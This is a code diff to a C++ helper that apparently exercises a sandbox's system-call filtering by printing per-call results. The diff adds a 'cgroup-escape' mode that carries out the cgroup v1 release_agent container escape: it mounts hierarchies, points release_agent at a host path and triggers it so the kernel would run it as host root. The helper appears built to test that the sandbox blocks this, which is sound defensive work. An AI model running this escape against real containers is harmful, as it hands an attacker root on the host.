@@ -2,7 +2,8 @@
 // tree. Each mode makes system calls with arguments that are harmless if they
 // reach the kernel (they fail there with an error other than EPERM, or do
 // nothing), and prints one "name result" line per call, result being "ok" or
-// the errno name. Modes: denied, allowed, tty, stdin-tty, compat.
+// the errno name. Modes: denied, allowed, tty, stdin-tty, compat, and the
+// attack on the host through cgroup v1: cgroup-escape.
 #include <fcntl.h>
 #include <linux/netlink.h>
 #include <sched.h>
@@ -23,7 +24,11 @@
 
 #include <cerrno>
 #include <cstdio>
+#include <fstream>
+#include <sstream>
+#include <string>
 #include <string_view>
+#include <vector>
 
 namespace {
 
@@ -123,11 +128,61 @@ int compat() {
     return 0;
 }
 
+// The release_agent escape (CVE-2022-0492 class), for every cgroup v1
+// hierarchy in /proc/self/cgroup: mount it, look for release_agent at the
+// root the mount shows, and if it is there, point it at agent (a host path)
+// and trigger it by emptying a notify_on_release cgroup. Prints
+// "cgroup_H PATH", "mount_H", "release_agent_H" (ok: present), "write_agent_H"
+// and, when it got that far, "trigger_H".
+int cgroup_escape(const char* agent, const char* tag) {
+    std::ifstream in("/proc/self/cgroup");
+    std::string line;
+    int n = 0;
+    while (std::getline(in, line)) {
+        auto a = line.find(':'), b = line.find(':', a + 1);
+        if (a == std::string::npos || b == std::string::npos) continue;
+        std::string ctl = line.substr(a + 1, b - a - 1);
+        std::printf("cgroup_%s %s\n", ctl.empty() ? "cgroup2" : ctl.c_str(), line.substr(b + 1).c_str());
+        if (ctl.empty()) continue;
+        std::string dir = "/tmp/cg-" + std::to_string(n++);
+        mkdir(dir.c_str(), 0755);
+        std::string opts = ctl.rfind("name=", 0) == 0 ? "none," + ctl : ctl;
+        std::string name = "_" + ctl;
+        long r = ::mount("cgroup", dir.c_str(), "cgroup", 0, opts.c_str());
+        report(("mount" + name).c_str(), r);
+        if (r < 0) continue;
+        std::string ra = dir + "/release_agent";
+        report(("release_agent" + name).c_str(), access(ra.c_str(), F_OK));
+        int fd = open(ra.c_str(), O_WRONLY | O_CLOEXEC);
+        long w = fd < 0 ? -1 : write(fd, agent, strlen(agent));
+        report(("write_agent" + name).c_str(), w);
+        if (fd >= 0) close(fd);
+        if (w >= 0) {
+            // The kernel would run agent as host root once this cgroup empties.
+            std::string x = dir + "/" + tag;
+            mkdir(x.c_str(), 0755);
+            std::ofstream(x + "/notify_on_release") << "1";
+            pid_t pid = fork();
+            if (pid == 0) {
+                std::ofstream(x + "/cgroup.procs") << getpid() << std::flush;
+                _exit(0);
+            }
+            int st = 0;
+            waitpid(pid, &st, 0);
+            report(("trigger" + name).c_str(), 0);
+        }
+        umount2(dir.c_str(), MNT_DETACH);
+    }
+    return 0;
+}
+
 }  // namespace
 
 int main(int argc, char** argv) {
-    if (argc != 2) return 2;
+    if (argc < 2) return 2;
     std::string_view mode = argv[1];
+    if (mode == "cgroup-escape" && argc == 4) return cgroup_escape(argv[2], argv[3]);
+    if (argc != 2) return 2;
     if (mode == "denied") return denied();
     if (mode == "allowed") return allowed();
     if (mode == "tty") return tty();
